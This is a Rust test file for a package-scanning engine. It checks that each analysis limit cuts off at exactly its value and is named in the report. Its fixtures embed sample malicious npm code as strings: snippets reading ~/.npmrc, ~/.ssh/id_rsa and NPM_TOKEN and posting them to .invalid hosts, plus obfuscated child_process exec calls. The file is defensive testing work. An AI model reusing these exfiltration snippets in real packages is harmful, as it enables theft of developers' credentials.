//! Every limit: what just fits is whole, one over is told by the limit's name.
#![allow(clippy::unwrap_used, reason = "a panic fails the test")]

use serde_json::Value;
use tarsight::{Engine, Limits, ScanOptions};
use tarsight_tests::{File, tar, tgz};

const MANIFEST: &str = r#"{"name":"p","version":"1.0.0","main":"index.js"}"#;

/// What limits are tried on: an archive that reaches each at a known value.
struct Case {
    limit: &'static str,
    /// The least value at which nothing is cut.
    fits: u64,
    archive: Vec<u8>,
    /// What the report says one below: a reason, or the code of an error.
    told: &'static str,
}

fn files(index: &str) -> Vec<File> {
    vec![
        ("package.json".to_owned(), MANIFEST.as_bytes().to_vec()),
        ("index.js".to_owned(), index.as_bytes().to_vec()),
    ]
}

fn case(limit: &'static str, fits: usize, archive: Vec<u8>, told: &'static str) -> Case {
    Case {
        limit,
        fits: fits as u64,
        archive,
        told,
    }
}

fn cases() -> Vec<Case> {
    let plain = tar(&files("exports.a = 1;\n"));
    let mut zeros = files("exports.a = 1;\n");
    zeros.push(("zeros.bin".to_owned(), vec![0; 200_000]));
    let unpacked = tar(&zeros).len();
    let zeros = tgz(&zeros);
    let ratio = unpacked.div_ceil(zeros.len());
    let of = |index: &str| tgz(&files(index));
    let text = "exports.a = 'some text of a known length';\n";
    let mut two = files("require('./b');\n");
    two.push(("b.js".to_owned(), b"exports.b = 2;\n".to_vec()));
    let spawns = "const c = require('child_process');\nc.exec('a');\nc.exec('b');\nc.exec('c');\n";
    let same = "const c = require('child_process');\nc.exec('a');\nc.exec('a');\nc.exec('a');\n";
    let steals = "const fs = require('fs'), https = require('https');\n\
        const send = (at, data) => https.request(at, { method: 'POST' }).end(data);\n\
        send('https://a.invalid/', fs.readFileSync(process.env.HOME + '/.npmrc'));\n\
        send('https://b.invalid/', fs.readFileSync(process.env.HOME + '/.ssh/id_rsa'));\n";
    // Each piece of code is found inside a value.
    let layers =
        ["a", "b", "c"].map(|name| format!("c.execFile('node', ['-e', 'require(\"{name}\")']);\n"));
    let layers = format!("const c = require('child_process');\n{}", layers.concat());
    let one_of = "let name = 'w';\nif (process.argv[2]) name = 'x';\nif (process.argv[3]) name = 'y';\n\
        require('child_process').exec(name);\n";
    // Each pair is one file where case does not count.
    let odd: Vec<File> = ["a.js", "A.js", "b.js", "B.js", "c.js", "C.js"]
        .map(|path| (path.to_owned(), b"exports.a = 1;\n".to_vec()))
        .into_iter()
        .chain(files("exports.a = 1;\n"))
        .collect();
    vec![
        case("layers", 3, of(&layers), "budget-exhausted"),
        case("value-set", 3, of(one_of), "unresolved-value"),
        case("notes", 3, tgz(&odd), "report-limit"),
        case("compressed-bytes", plain.len(), plain.clone(), "over-limit"),
        case(
            "unpacked-bytes",
            plain.len(),
            plain.clone(),
            "archive-limit",
        ),
        case("ratio", ratio, zeros, "archive-limit"),
        case("entries", 2, plain, "archive-limit"),
        case(
            "entry-bytes",
            text.len().max(MANIFEST.len()),
            of(&"/".repeat(MANIFEST.len())),
            "over-limit",
        ),
        case("parse-bytes", text.len(), of(text), "file-too-large"),
        case("parse-files", 2, tgz(&two), "budget-exhausted"),
        case("behaviours", 3, of(spawns), "report-limit"),
        case("sites", 3, of(same), ""),
        case("flows", 4, of(steals), "report-limit"),
        case("findings", 4, of(steals), "report-limit"),
    ]
}

/// What a scan under this limit says of it: nothing, a reason, or an error.
fn told(case: &Case, value: u64) -> String {
    told_within(Limits::default(), case, value)
}

fn told_within(mut limits: Limits, case: &Case, value: u64) -> String {
    limits.set(case.limit, value).unwrap();
    let engine = Engine::builder().limits(limits).jobs(1).build().unwrap();
    let report = match engine.scan(&case.archive) {
        Ok(report) => report,
        Err(error) => {
            assert!(error.to_string().contains(case.limit), "{error}");
            return error.code().to_owned();
        }
    };
    let report: Value = serde_json::from_str(&report.to_json()).unwrap();
    let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
    let named = unanalysed.iter().find(|one| {
        let detail = one["detail"].as_str().unwrap();
        detail.contains(case.limit)
    });
    if let Some(named) = named {
        // What was read, but not resolved, does not count as missing.
        let complete = named["kind"] == "not-resolved";
        assert_eq!(report["coverage"]["complete"], complete, "{}", case.limit);
        return named["reason"].as_str().unwrap().to_owned();
    }
    String::new()
}

#[test]
fn what_fits_is_whole_and_one_over_is_named() {
    let mut wrong = Vec::new();
    for case in cases() {
        let (at, over) = (told(&case, case.fits), told(&case, case.fits - 1));
        if !at.is_empty() || over != case.told {
            wrong.push(format!(
                "{} = {}: {at:?}, one less: {over:?}",
                case.limit, case.fits
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A limit that is new has to be tried too.
#[test]
fn every_limit_is_tried() {
    let mut tried: Vec<&str> = cases().iter().map(|case| case.limit).collect();
    tried.extend(STEPS);
    tried.extend(["nesting", "hidden-steps"]);
    tried.sort_unstable();
    let mut all = Limits::NAMES.to_vec();
    all.sort_unstable();
    assert_eq!(tried, all);
}

/// Below some three thousand levels every stack is large enough and no limit is asked.
#[test]
fn nesting_is_counted_to_the_limit() {
    let deep = |levels: usize| {
        let text = format!(
            "exports.a = {}{};\n",
            "[".repeat(levels),
            "]".repeat(levels)
        );
        let case = case("nesting", 0, tgz(&files(&text)), "nesting-too-deep");
        told(&case, 5_000)
    };
    assert_eq!(deep(4_900), "");
    assert_eq!(deep(5_001), "nesting-too-deep");
}

/// Code that unpacks texts from a table, so many times, and runs the last one.
fn unpacking(turns: usize) -> String {
    format!(
        "const table = ['rv', 'ab', 'xy'];\nlet out = '';\n\
         for (let turn = 0; turn < {turns}; turn++)\n\
         out = table[turn % 3].split('').reverse().join('') + turn;\n\
         require('child_process').exec(out);\n"
    )
}

/// What a file that hides all its calls may take is half of what is left.
#[test]
fn files_that_hide_their_calls_are_run_again() {
    let calls = "fs[out](out);\n".repeat(10);
    let text = format!(
        "const fs = require('fs');\nconst table = ['rv', 'ab', 'xy'];\nlet out = '';\n\
         const made = (turn) => table[turn % 3].split('').reverse().join('') + turn;\n\
         for (let turn = 0; turn < 20000; turn++) out = made(turn);\n{calls}"
    );
    let case = case("hidden-steps", 0, tgz(&files(&text)), "budget-exhausted");
    let mut limits = Limits::default();
    limits.set("run-steps", 10_000).unwrap();
    assert_eq!(told_within(limits.clone(), &case, 600_000), case.told);
    assert_eq!(told_within(limits, &case, 80_000_000), "");
}

/// A chain of names, each of which is evaluated for the next.
fn names(count: usize) -> String {
    let mut text = "const n0 = process.env.A;\n".to_owned();
    for at in 1..count {
        text += &format!("const n{at} = n{} + 'x' + n{};\n", at - 1, at - 1);
    }
    text + &format!("require('child_process').exec(n{});\n", count - 1)
}

const STEPS: [&str; 3] = ["file-steps", "run-steps", "package-steps"];

/// Limits on steps: how many something takes is not known before, but there is one number that
/// is enough, and one less is told.
#[test]
fn steps_are_counted_to_the_limit() {
    let of = |text: String| tgz(&files(&text));
    let archives = [of(names(60)), of(unpacking(4_000)), tgz(&chain(8))];
    for (limit, archive) in STEPS.into_iter().zip(archives) {
        let case = case(limit, 0, archive, "unresolved-value");
        let (mut low, mut high) = (0, 1_u64 << 26);
        assert_eq!(told(&case, low), case.told, "{limit} = 0");
        assert_eq!(told(&case, high), "", "{limit} = {high}");
        while high - low > 1 {
            let middle = low.midpoint(high);
            match told(&case, middle).is_empty() {
                true => high = middle,
                false => low = middle,
            }
        }
        println!("{limit}: {high}");
        assert_eq!(told(&case, high), "", "{limit} = {high}");
        assert_eq!(told(&case, high - 1), case.told, "{limit} = {}", high - 1);
    }
}

/// The count beside a list tells that it was cut, where the list cannot tell it of itself.
#[test]
fn places_that_were_not_analysed_are_counted_to_the_limit() {
    let broken = (0..4).map(|at| (format!("b{at}.js"), b"exports.a = (;\n".to_vec()));
    let mut files = files("exports.a = 1;\n");
    files.extend(broken);
    let archive = tgz(&files);
    for (notes, listed, count) in [(4, 4, Value::Null), (3, 3, 4.into())] {
        let mut limits = Limits::default();
        limits.notes = notes;
        let engine = Engine::builder().limits(limits).build().unwrap();
        let report = engine.scan(&archive).unwrap().to_json();
        let report: Value = serde_json::from_str(&report).unwrap();
        let coverage = &report["coverage"];
        assert_eq!(coverage["unanalysed"].as_array().unwrap().len(), listed);
        assert_eq!(coverage["unanalysedCount"], count, "notes = {notes}");
        assert_eq!(coverage["complete"], false, "notes = {notes}");
    }
}

/// The least `package-steps` with which a package of so many files is followed to its end.
fn least_steps(files: &[File]) -> u64 {
    let archive = tgz(files);
    let is_whole = |steps: u64| {
        let mut limits = Limits::default();
        limits.package_steps = steps;
        let report = Engine::builder()
            .limits(limits)
            .build()
            .unwrap()
            .scan(&archive);
        let report: Value = serde_json::from_str(&report.unwrap().to_json()).unwrap();
        let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
        let ran_out = |one: &Value| {
            one["detail"]
                .as_str()
                .unwrap_or("")
                .contains("package-steps")
        };
        !unanalysed.iter().any(ran_out)
    };
    let (mut low, mut high) = (0, 1_u64 << 24);
    assert!(is_whole(high), "the steps must be enough at first");
    while high - low > 1 + high / 64 {
        let middle = low + (high - low) / 2;
        match is_whole(middle) {
            true => high = middle,
            false => low = middle,
        }
    }
    high
}

/// A chain of so many files, each of which hands a secret on to the next, and exports of it.
fn chain(files: usize) -> Vec<File> {
    let mut all = vec![(
        "package.json".to_owned(),
        br#"{"name":"p","version":"1.0.0","main":"f0.js"}"#.to_vec(),
    )];
    for at in 0..files {
        let text = if at + 1 < files {
            let next = at + 1;
            format!(
                "const next = require('./f{next}');\n\
                 exports.read = () => next.read() + '{at}';\n\
                 exports.send = (value) => next.send(value + '{at}');\n"
            )
        } else {
            "exports.read = () => process.env.NPM_TOKEN;\n\
             exports.send = (value) => fetch('https://a.invalid/', { method: 'POST', body: value });\n"
                .to_owned()
        };
        all.push((format!("f{at}.js"), text.into_bytes()));
    }
    all
}

/// Many files beside each other that use one, and hand it values.
fn fan(files: usize) -> Vec<File> {
    let mut all = chain(2);
    for at in 0..files {
        let text = format!(
            "const one = require('./f0');\n\
             exports.a{at} = (value) => one.send(value.name);\n\
             one.send(process.env.NAME_{at});\n"
        );
        all.push((format!("g{at}.js"), text.into_bytes()));
    }
    all
}

#[test]
fn joining_what_files_say_is_linear() {
    for (name, package) in [("chain", chain as fn(usize) -> Vec<File>), ("fan", fan)] {
        let steps = [12, 24, 48].map(|files| least_steps(&package(files)));
        println!("{name}: {steps:?} steps for n, 2n, 4n files");
        for (small, large) in [(steps[0], steps[1]), (steps[1], steps[2])] {
            assert!(
                large * 10 <= small * 24,
                "{name}: {steps:?} steps for n, 2n, 4n files"
            );
        }
    }
}

/// A file that asks another one for all that it exports, again and again.
fn namespaces(exports: usize) -> Vec<File> {
    let names = (0..exports).map(|at| format!("export const a{at} = {at};\n"));
    let other: String = names.collect();
    let text = "import * as all from './b.js';\nimport { a0 } from './b.js';\n\
        import { exec } from 'child_process';\nconst made = Object.assign({}, all, { f: () => a0 });\n\
        for (let at = 0; at < 1e6; at++) { all['a' + at]; a0; made[process.argv[2]]; }\n\
        exec('id');\n";
    vec![
        (
            "package.json".to_owned(),
            br#"{"name":"a","version":"1.0.0","type":"module","main":"index.js"}"#.to_vec(),
        ),
        ("index.js".to_owned(), text.into()),
        ("b.js".to_owned(), other.into()),
    ]
}

#[test]
fn running_files_together_is_paid_for() {
    let steps = [1_000, 2_000, 4_000].map(|exports| {
        let mut options = ScanOptions::default();
        options.stats = true;
        let report = Engine::new().scan_with(&tgz(&namespaces(exports)), &options);
        report.unwrap().stats.map_or(0, |stats| stats.steps)
    });
    println!("{steps:?} steps for n, 2n, 4n exports");
    assert!(steps[0] > 10_000, "the loop ran");
    for pair in steps.windows(2) {
        assert!(pair[1] * 10 <= pair[0] * 24, "{steps:?}");
    }
}
